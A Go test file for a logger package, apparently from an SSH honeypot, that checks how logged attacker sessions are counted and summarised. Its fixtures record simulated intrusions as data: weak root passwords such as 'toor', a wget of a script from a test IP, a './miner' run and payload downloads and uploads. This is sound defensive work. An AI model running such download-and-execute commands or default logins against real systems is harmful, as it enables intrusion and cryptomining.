package logger

import (
	"encoding/json"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
)

func TestStrCounter(t *testing.T) {
	var c StrCounter
	c.Increment("b")
	c.Increment("b")
	c.Increment("a")
	c.Increment("c")

	assert.Equal(t, 2, c.Count("b"))
	assert.Equal(t, 1, c.Count("a"))
	assert.Equal(t, 0, c.Count("never-seen"))

	// Highest count first, ties broken by value.
	got, err := json.Marshal(c)
	assert.Nil(t, err)
	assert.Equal(t,
		`[{"value":"b","count":2},{"value":"a","count":1},{"value":"c","count":1}]`,
		string(got))
}

func TestReportUpdate(t *testing.T) {
	entries := []*LogEntry{
		{SessionStart: &SessionStart{User: "root", RemoteAddr: "203.0.113.7:41452", Term: "xterm"}},
		{Login: &Login{User: "root", Password: "123456", Success: false}},
		{Login: &Login{User: "root", Password: "toor", Success: true}},
		{RunCommand: &RunCommand{Argv: []string{"ls", "-la"}, ExitCode: 0}},
		{RunCommand: &RunCommand{Argv: []string{"ls"}, ExitCode: 0}},
		{RunCommand: &RunCommand{Argv: []string{"wget", "203.0.113.9/x.sh"}, ExitCode: 1}},
		{UnknownCommand: &UnknownCommand{Argv: []string{"./miner"}}},
		{InvalidInvocation: &InvalidInvocation{Argv: []string{"ls", "--bogus"}, Error: "unknown flag"}},
		{Download: &Download{URL: "http://203.0.113.9/x.sh", Path: "x.sh", Size: 420}},
		{Upload: &Upload{Path: "/root/payload.bin", Size: 12}},
		{Panic: &Panic{Command: "ls", Message: "boom"}},
	}

	var report Report
	for _, entry := range entries {
		report.Update(entry)
	}

	assert.Equal(t, len(entries), report.LogEntries)

	assert.Equal(t, 1, report.Sessions.Count)
	assert.Equal(t, 1, report.Sessions.Users.Count("root"))
	assert.Equal(t, 1, report.Sessions.Terminals.Count("xterm"))

	assert.Equal(t, 2, report.Logins.Usernames.Count("root"))
	assert.Equal(t, 1, report.Logins.Passwords.Count("toor"))
	assert.Equal(t, 1, report.Logins.Results.Count("success"))
	assert.Equal(t, 1, report.Logins.Results.Count("failure"))

	assert.Equal(t, 2, report.RunCommand.CommandNames.Count("ls"))
	assert.Equal(t, 1, report.RunCommand.CommandNames.Count("wget"))
	assert.Equal(t, 2, report.RunCommand.ExitCodes.Count("0"))
	assert.Equal(t, 1, report.RunCommand.ExitCodes.Count("1"))

	assert.Equal(t, 1, report.UnknownCommand.CommandNames.Count("./miner"))
	assert.Equal(t, 1, report.InvalidInvocation.CommandNames.Count("ls"))

	assert.Equal(t, 1, report.Download.Count)
	assert.Equal(t, 1, report.Download.Sources.Count("http://203.0.113.9/x.sh"))
	assert.Equal(t, 1, report.Upload.Count)
	assert.Equal(t, 1, report.Upload.Paths.Count("/root/payload.bin"))

	assert.Equal(t, []string{"ls: boom"}, report.Panic.Contexts)
}

func TestInteractionReport(t *testing.T) {
	entries := []*LogEntry{
		{SessionID: "a", SessionStart: &SessionStart{RemoteAddr: "203.0.113.7:41452", Term: "xterm"}},
		{SessionID: "a", Login: &Login{User: "root", Password: "toor"}},
		{SessionID: "a", RunCommand: &RunCommand{Argv: []string{"ls", "-la"}}},
		{SessionID: "a", UnknownCommand: &UnknownCommand{Argv: []string{"./miner"}}},
		{SessionID: "a", Download: &Download{URL: "http://203.0.113.9/m.sh", Path: "m.sh"}},
		{SessionID: "a", Upload: &Upload{Path: "/tmp/p"}},
		{SessionID: "b", RunCommand: &RunCommand{Argv: []string{"uname", "-a"}}},
		// Entries with no session attribution are dropped.
		{RunCommand: &RunCommand{Argv: []string{"stray"}}},
	}

	var report InteractionReport
	for _, entry := range entries {
		report.Update(entry)
	}

	raw, err := json.Marshal(&report)
	assert.Nil(t, err)

	var decoded map[string]*InteractiveSession
	require.Nil(t, json.Unmarshal(raw, &decoded))
	require.Len(t, decoded, 2)

	first := decoded["a"]
	require.NotNil(t, first)
	assert.Equal(t, 6, first.LogEntries)
	assert.Equal(t, "root", first.Login.Username)
	assert.Equal(t, "toor", first.Login.Password)
	assert.Equal(t, "203.0.113.7:41452", first.RemoteAddr)
	assert.Equal(t, "xterm", first.TerminalName)
	assert.Equal(t, []string{"ls -la", "./miner"}, first.Commands)
	assert.Equal(t, []string{"http://203.0.113.9/m.sh -> m.sh"}, first.Downloads)
	assert.Equal(t, []string{"/tmp/p"}, first.Uploads)

	second := decoded["b"]
	require.NotNil(t, second)
	assert.Equal(t, []string{"uname -a"}, second.Commands)
}
